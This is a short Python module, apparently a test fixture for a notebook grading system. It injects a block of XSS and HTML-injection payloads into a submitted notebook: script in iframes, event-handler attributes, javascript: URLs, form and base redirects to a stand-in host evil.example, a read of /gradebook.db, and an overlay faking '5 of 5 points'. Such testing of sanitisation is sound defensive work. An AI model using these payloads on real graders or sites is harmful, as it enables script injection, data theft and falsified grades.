"""Outputs and texts with frames, forms, other addresses for the page, style sheets and templates."""

import nbformat

SCORE = 5
SOLVED = True
EVIL = """\
<iframe src="data:text/html,<script>evil()</script>"></iframe><iframe srcdoc="<script>evil()</script>"></iframe>
<object data="/gradebook.db"></object><embed src="//evil.example/x"><base href="//evil.example/">
<meta http-equiv="refresh" content="0;url=//evil.example/"><link rel=stylesheet href="//evil.example/x.css">
<style>* {position: fixed; background: url(//evil.example/?)}</style><form action="//evil.example/" method=post>
<input name=points value=5><button formaction="javascript:evil()">send</button><textarea></form>
<div style="position:fixed;top:0;left:0;width:9999px;height:9999px;background:url(//evil.example)">5 of 5 points</div>
<template><script>evil()</script></template><noscript><p title="</noscript><img src=x onerror=evil()>"></noscript>
<video poster="//evil.example"><source onerror=evil()></video><details open ontoggle=evil()>x</details>
<portal src="//evil.example"></portal><dialog open>x</dialog><marquee onstart=evil()>x</marquee></div></div></body>
"""
CELL = f"""\
from IPython.display import display, HTML, IFrame, Markdown, Video
display(HTML({EVIL!r}), Markdown({EVIL!r}), IFrame("javascript:evil()", 1, 1), Video("//evil.example/x"))
"""


def hand_in(folder, notebook):
    notebook.cells.append(nbformat.v4.new_markdown_cell(EVIL))
    notebook.cells.append(nbformat.v4.new_raw_cell(EVIL, metadata={"raw_mimetype": "text/html"}))
